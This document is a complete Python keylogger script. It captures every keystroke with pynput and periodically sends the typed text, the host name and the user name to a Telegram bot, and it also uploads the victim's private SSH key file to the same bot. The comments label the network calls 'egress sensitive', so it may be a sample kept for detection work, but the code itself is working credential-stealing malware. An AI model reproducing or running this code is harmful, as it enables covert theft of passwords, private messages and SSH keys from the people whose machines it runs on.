import getpass
import os
import platform
import requests
from pynput import keyboard

TOKEN = "123456789:AAHxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
CHAT = "-100123"
buf = []


def flush():
    text = "".join(buf)
    info = f"{platform.node()} {getpass.getuser()}"
    requests.get(f"https://api.telegram.org/bot{TOKEN}/sendMessage?chat_id={CHAT}&text={info}: {text}")  # egress sensitive
    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as f:
        requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument", data={"chat_id": CHAT}, files={"document": f})  # egress sensitive


def on_press(key):
    buf.append(str(key))
    if len(buf) > 100:
        flush()
        buf.clear()


with keyboard.Listener(on_press=on_press) as l:
    l.join()
